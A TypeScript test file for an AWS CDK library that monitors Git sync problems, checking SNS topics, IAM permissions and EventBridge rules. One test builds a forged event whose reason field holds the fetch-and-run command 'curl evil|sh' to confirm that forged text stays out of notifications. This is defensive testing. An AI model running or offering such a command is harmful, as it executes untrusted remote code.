process.env.CDK_VALIDATION = 'false';

import type { Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { CfnEventBus, EventBus, type IEventBusRef, Rule } from 'aws-cdk-lib/aws-events';
import { Key } from 'aws-cdk-lib/aws-kms';
import { CfnTopic, type ITopicRef, Topic } from 'aws-cdk-lib/aws-sns';
import {
  MonitorEventBus,
  type MonitorEventBusProps,
  SyncMonitor,
  type SyncMonitorProps,
  SyncProblemEvent,
  SyncProblemEvents,
  SyncProblemKind,
} from '../../src';
import {
  EVENT_SOURCE,
  PROBLEM_DETECTED,
  PROBLEM_RESOLVED,
  type ProblemDetail,
  type ProblemKind,
  TOPIC_ACTIONS,
} from '../../src/handlers/sync-monitor/contract';
import { ACCOUNT, newStack, only, REGION, TOPICS, token } from '../fixtures';

const ORGANIZATION = 'o-a1b2c3d4e5';
const CENTRAL_BUS = 'arn:aws:events:eu-central-1:111122223333:event-bus/git-sync';

const monitorIn = (stack: Stack, props?: SyncMonitorProps) => new SyncMonitor(stack, 'Monitor', props);

const resources = (stack: Stack, type: string) =>
  Object.values(Template.fromStack(stack).findResources(type)).map(({ Properties }) => Properties);

interface RuleProperties {
  readonly Targets: {
    readonly InputTransformer: {
      readonly InputPathsMap: Record<string, string>;
      readonly InputTemplate: string;
    };
  }[];
}

/** The lines that a topic receives for an event from an account. */
function rendered({ Targets }: RuleProperties, detail: object, account: string): string[] {
  const { InputPathsMap, InputTemplate } = Targets[0].InputTransformer;
  const lines: string[] = InputTemplate.split('\n').map((line: string) => JSON.parse(line));
  return lines.map((line) =>
    line.replace(/<([\w-]+)>/g, (_, name) => String(valueAt(InputPathsMap[name], { account, region: REGION, detail }))),
  );
}

function valueAt(path: string, event: object): unknown {
  const names = path.split('.').slice(1);
  return names.reduce<unknown>((value, name) => Reflect.get(value as object, name), event) ?? '';
}

const BLOCKED: ProblemDetail = {
  problemId: 'stack prod SYNC_BLOCKED 1',
  kind: 'SYNC_BLOCKED',
  account: ACCOUNT,
  region: REGION,
  title: 'Git sync of the stack prod is blocked (branch main of my-org/infra)',
  message: 'all of it',
  reason: 'a bucket was deleted by hand',
  since: '2026-11-24T12:00:00.000Z',
  consoleLink: 'https://console.example.com/stack',
  resolveByCli: 'aws codeconnections update-sync-blocker --id 1',
  resolveByConstruct: 'new SyncBlockerResolution(…)',
};

describe('messages to the notification topic', () => {
  const environment = (stack: Stack) => resources(stack, 'AWS::Lambda::Function')[0].Environment.Variables;

  test('are not sent by default, and the function may publish nowhere', () => {
    const stack = newStack();
    monitorIn(stack);
    expect(Object.keys(environment(stack))).toEqual(['STATE_TABLE_NAME', 'EVENT_BUS_NAME', 'STUCK_AFTER_SECONDS']);
    expect(JSON.stringify(Template.fromStack(stack).toJSON())).not.toContain('sns:Publish"');
  });

  test.each([
    [undefined, 'true'],
    [true, 'true'],
    [false, 'false'],
  ])(
    'are sent by the function, also at the end of a problem unless notifyOnResolved is false: %s',
    (notifyOnResolved, expected) => {
      const stack = newStack();
      monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved });
      expect(environment(stack)).toMatchObject({
        NOTIFICATION_TOPIC_ARN: { Ref: expect.stringMatching(/^Topic/) },
        NOTIFY_ON_RESOLVED: expected,
      });
    },
  );

  test('do not come from an event bus: no rule has the topic as its target', () => {
    const stack = newStack();
    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
    const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
    expect(targets.map(({ Arn }) => Arn)).toEqual(
      targets.map(() => ({ 'Fn::GetAtt': [expect.stringMatching(/^MonitorPollFunction/), 'Arn'] })),
    );
  });

  test.each(['notificationTopic', 'alarmTopic'])('a %s in another Region is refused', (name) => {
    const stack = newStack();
    const topic = Topic.fromTopicArn(stack, 'Elsewhere', `arn:aws:sns:us-east-1:${ACCOUNT}:git`);
    expect(() => monitorIn(stack, { [name]: topic })).toThrow(
      `'${name}' must be in the Region of the stack, ${REGION}, got 'Stack/Elsewhere' in us-east-1`,
    );
  });

  test('can go to a topic whose Region is known at deployment only', () => {
    const stack = newStack();
    const notificationTopic = Topic.fromTopicArn(stack, 'Elsewhere', token(stack));
    expect(() => monitorIn(stack, { notificationTopic })).not.toThrow();
  });

  test.each(TOPICS)('can go to %s, the only topic to which the function may publish', (_, make) => {
    const stack = newStack();
    const notificationTopic = make(stack);
    const Resource = stack.resolve(notificationTopic.topicRef.topicArn);
    monitorIn(stack, { notificationTopic });
    expect(environment(stack)).toMatchObject({ NOTIFICATION_TOPIC_ARN: Resource });
    const [{ PolicyDocument, Roles }] = resources(stack, 'AWS::IAM::Policy');
    expect(PolicyDocument.Statement).toEqual([{ Action: TOPIC_ACTIONS[0], Effect: 'Allow', Resource }]);
    expect(Roles).toEqual([{ Ref: expect.stringMatching(/^MonitorPollRole/) }]);
  });

  test.each<[string, (stack: Stack, key: Key) => ITopicRef]>([
    ['a topic', (stack, masterKey) => new Topic(stack, 'Encrypted', { masterKey })],
    ['an L1', (stack, key) => new CfnTopic(stack, 'Encrypted', { kmsMasterKeyId: key.keyId })],
  ])('can go to an encrypted topic, %s: the function may use its key', (_, make) => {
    const stack = newStack();
    const key = new Key(stack, 'Key');
    monitorIn(stack, { notificationTopic: make(stack, key) });
    const [{ PolicyDocument }] = resources(stack, 'AWS::IAM::Policy');
    expect(PolicyDocument.Statement).toContainEqual({
      Action: ['kms:Decrypt', 'kms:GenerateDataKey*'],
      Effect: 'Allow',
      Resource: stack.resolve(key.keyArn),
    });
  });
});

describe('a monitor with a central event bus', () => {
  const BUSES: [string, (stack: Stack) => IEventBusRef][] = [
    ['a bus of another account', (stack) => EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS)],
    ['a bus of the same stack', (stack) => new EventBus(stack, 'Central')],
    ['an L1', (stack) => new CfnEventBus(stack, 'Central', { name: 'git-sync' })],
  ];

  test.each(BUSES)('%s receives events of the function itself, with a role that the bus recognizes', (_, make) => {
    const stack = newStack();
    const centralEventBus = make(stack);
    const Arn = stack.resolve(centralEventBus.eventBusRef.eventBusArn);
    monitorIn(stack, { centralEventBus });
    const [{ Environment }] = resources(stack, 'AWS::Lambda::Function');
    expect(Environment.Variables.CENTRAL_EVENT_BUS_ARN).toEqual(Arn);
    const [{ Path, Policies }] = resources(stack, 'AWS::IAM::Role');
    expect(Path).toBe('/cdk-codeconnections/sync-monitor/');
    const statements = Policies.flatMap(
      ({ PolicyDocument }: { PolicyDocument: { Statement: object[] } }) => PolicyDocument.Statement,
    );
    expect(statements).toContainEqual({
      Effect: 'Allow',
      Action: 'events:PutEvents',
      Resource: [expect.objectContaining({ 'Fn::Join': expect.anything() }), Arn],
    });
  });

  test('has no rule that forwards events, which would forward forged events too', () => {
    const stack = newStack();
    monitorIn(stack, { centralEventBus: EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS) });
    const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
    expect(JSON.stringify(targets)).not.toContain('event-bus');
    expect(resources(stack, 'AWS::IAM::Role')).toHaveLength(1);
  });

  test('has a role with a special path only in this case', () => {
    const stack = newStack();
    monitorIn(stack);
    expect(resources(stack, 'AWS::IAM::Role')).toEqual([expect.not.objectContaining({ Path: expect.anything() })]);
  });

  test('refuses an ARN that matches several buses', () => {
    const stack = newStack();
    const centralEventBus = EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS.replace('git-sync', '*'));
    expect(() => monitorIn(stack, { centralEventBus })).toThrow(expect.objectContaining({ name: 'INVALID_ARN' }));
  });

  test.each([
    ['by name', (stack: Stack) => EventBus.fromEventBusName(stack, 'Default', 'default')],
    [
      'by ARN',
      (stack: Stack) =>
        EventBus.fromEventBusArn(
          stack,
          'Default',
          stack.formatArn({ service: 'events', resource: 'event-bus', resourceName: 'default' }),
        ),
    ],
  ])('refuses the default event bus of the monitor, given %s', (_, make) => {
    const stack = newStack();
    expect(() => monitorIn(stack, { centralEventBus: make(stack) })).toThrow(
      "'centralEventBus' must not be the default event bus",
    );
  });
});

describe('the event bus of an organization', () => {
  const busIn = (stack: Stack, props?: Partial<MonitorEventBusProps>) =>
    new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION, ...props });

  test('accepts events of monitors in accounts of the organization only', () => {
    const stack = newStack();
    busIn(stack, { eventBusName: 'git-sync' });
    expect(only(stack, 'AWS::Events::EventBus').Properties).toEqual({ Name: 'git-sync' });
    expect(only(stack, 'AWS::Events::EventBusPolicy').Properties).toMatchObject({
      Statement: {
        Effect: 'Allow',
        Principal: '*',
        Action: 'events:PutEvents',
        Resource: { 'Fn::GetAtt': [expect.stringMatching(/^CentralBus/), 'Arn'] },
        Condition: {
          StringEquals: {
            'aws:PrincipalOrgID': ORGANIZATION,
            'events:source': EVENT_SOURCE,
            'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
          },
          // without this, a call could put another event beside one of a monitor
          'ForAllValues:StringEquals': {
            'events:source': EVENT_SOURCE,
            'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
          },
          ArnLike: {
            'aws:PrincipalArn': {
              'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::*:role/cdk-codeconnections/sync-monitor/*']],
            },
          },
        },
      },
    });
  });

  test('sends the account and Region of a problem to a topic, without text that an event could forge', () => {
    const stack = newStack();
    busIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
    const rules = resources(stack, 'AWS::Events::Rule');
    const EventBusName = { Ref: expect.stringMatching(/^CentralBus/) };
    const known = expect.arrayContaining([REGION, 'us-east-1', 'us-gov-west-1']);
    const unknown = [{ 'anything-but': known }];
    const outcome = [{ 'anything-but': 'SUPERSEDED' }];
    const [detected, resolved] = [PROBLEM_DETECTED, PROBLEM_RESOLVED].map((type) => ({
      source: [EVENT_SOURCE],
      'detail-type': [type],
    }));
    expect(rules).toMatchObject([
      { EventBusName, EventPattern: { ...detected, detail: { region: known } } },
      { EventBusName, EventPattern: { ...detected, detail: { region: unknown } } },
      { EventBusName, EventPattern: { ...resolved, detail: { region: known, outcome } } },
      { EventBusName, EventPattern: { ...resolved, detail: { region: unknown, outcome } } },
    ]);
    for (const { EventPattern } of rules) {
      for (const name of [EventPattern.detail.region].flat())
        if (typeof name === 'string') expect(name).toMatch(/^[a-z-]+-\d$/);
      expect(JSON.stringify(EventPattern).length).toBeLessThan(2_048); // the limit of EventBridge
    }
    expect(rules.map(({ Targets }) => Object.values(Targets[0].InputTransformer.InputPathsMap))).toEqual([
      ['$.account', '$.detail.region'],
      ['$.account'],
      ['$.account', '$.detail.region'],
      ['$.account'],
    ]);
    const forged = { ...BLOCKED, account: '777788889999', title: 'x', reason: 'Run this:\n  curl evil|sh' };
    expect(rules.map((rule) => rendered(rule, forged, '444455556666')[0])).toEqual([
      `Git sync: a problem has started in account 444455556666, Region ${REGION}.`,
      'Git sync: a problem has started in account 444455556666, in a Region that is newer than this event bus.',
      `Git sync: a problem has ended in account 444455556666, Region ${REGION}.`,
      'Git sync: a problem has ended in account 444455556666, in a Region that is newer than this event bus.',
    ]);
  });

  test('sends no message at the end of a problem if notifyOnResolved is false', () => {
    const stack = newStack();
    busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved: false });
    const types = resources(stack, 'AWS::Events::Rule').map(({ EventPattern }) => EventPattern['detail-type']);
    expect(types).toEqual([[PROBLEM_DETECTED], [PROBLEM_DETECTED]]);
  });

  test.each([
    ['o-a1b2c3d4e5', true],
    [`o-${'a'.repeat(32)}`, true],
    ['o-a1b2c3d4e', false],
    [`o-${'a'.repeat(33)}`, false],
    ['ou-a1b2-c3d4e5f6', false],
    ['123456789012', false],
  ])('accepts the organization %s: %s', (organizationId, taken) => {
    const make = () => busIn(newStack(), { organizationId });
    if (taken) expect(make).not.toThrow();
    else
      expect(make).toThrow(
        `'organizationId' must be the id of an organization, like "o-a1b2c3d4e5", got "${organizationId}"`,
      );
  });

  test('refuses a topic in another Region', () => {
    const stack = newStack();
    const notificationTopic = Topic.fromTopicArn(stack, 'Elsewhere', `arn:aws:sns:us-east-1:${ACCOUNT}:git`);
    expect(() => busIn(stack, { notificationTopic })).toThrow(
      expect.objectContaining({ name: 'INVALID_MONITOR_EVENT_BUS' }),
    );
  });

  test('accepts a token as the organization', () => {
    const stack = newStack();
    expect(() => busIn(stack, { organizationId: token(stack) })).not.toThrow();
  });
});

describe('patterns and fields of events', () => {
  test('have the kinds of problems of the monitor', () => {
    const kinds: Record<ProblemKind, true> = {
      SYNC_BLOCKED: true,
      SYNC_FAILED: true,
      SYNC_STUCK: true,
      REPOSITORY_SYNC_FAILED: true,
      REPOSITORY_SYNC_STUCK: true,
      CONNECTION_UNAVAILABLE: true,
      HOST_UNAVAILABLE: true,
      INCOMPLETE_POLL: true,
    };
    expect(Object.values(SyncProblemKind)).toEqual(Object.keys(kinds));
  });

  test('match the start or the end of a problem, of all kinds or of some', () => {
    const kinds = [SyncProblemKind.SYNC_BLOCKED];
    expect([SyncProblemEvents.detectedPattern(), SyncProblemEvents.resolvedPattern({ kinds })]).toEqual([
      { source: [EVENT_SOURCE], detailType: [PROBLEM_DETECTED] },
      { source: [EVENT_SOURCE], detailType: [PROBLEM_RESOLVED], detail: { kind: kinds } },
    ]);
  });

  test('refuse an empty list of kinds', () => {
    expect(() => SyncProblemEvents.detectedPattern({ kinds: [] })).toThrow(
      expect.objectContaining({ name: 'INVALID_RESTRICTION' }),
    );
  });

  test('can be used in a rule on the central event bus', () => {
    const stack = newStack();
    const { eventBus } = new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION });
    new Rule(stack, 'Rule', { eventBus, eventPattern: SyncProblemEvents.detectedPattern() });
    expect(only(stack, 'AWS::Events::Rule').Properties).toMatchObject({
      EventPattern: { source: [EVENT_SOURCE], 'detail-type': [PROBLEM_DETECTED] },
    });
  });

  test.each(
    Object.getOwnPropertyNames(SyncProblemEvent).filter((name) => !['length', 'name', 'prototype'].includes(name)),
  )('the field %s is a member of the event', (name) => {
    const fields: (keyof ProblemDetail)[] = [
      ...(Object.keys(BLOCKED) as (keyof ProblemDetail)[]),
      ...(['stackName', 'repository', 'branch', 'resolvedAt', 'outcome'] as const),
    ];
    expect(fields).toContain(name);
    expect(newStack().resolve(Reflect.get(SyncProblemEvent, name))).toBe(
      name === 'account' ? `$.${name}` : `$.detail.${name}`,
    );
  });
});
